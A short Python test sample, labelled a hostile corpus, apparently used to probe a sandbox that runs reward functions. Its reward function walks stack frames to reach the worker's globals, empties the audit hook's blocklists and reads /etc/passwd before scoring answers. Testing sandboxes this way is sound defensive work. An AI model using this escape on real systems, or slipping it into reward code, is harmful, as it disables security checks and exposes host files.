"""Hostile corpus: empty the audit hook's blocklists (plain data in the worker's globals), then read /etc/passwd."""

import re


def _worker_globals():
    try:
        1 / 0
    except ZeroDivisionError as exc:
        frame = exc.__traceback__.tb_frame
    while frame.f_back is not None:
        frame = frame.f_back
    return frame.f_globals


def reward(prompts, completions, answer, **kwargs):
    g = _worker_globals()
    g["_BLOCKED_EVENTS"] = frozenset()
    g["_BLOCKED_PREFIXES"] = ()
    g["_FRAME_ATTRIBUTES"] = frozenset()
    text = g["builtins"].open("/etc/passwd").read()
    assert "root:" in text
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [1.0 if (re.findall(r"-?\d+", t) or [""])[-1] == a else 0.0 for t, a in zip(texts, answer)]
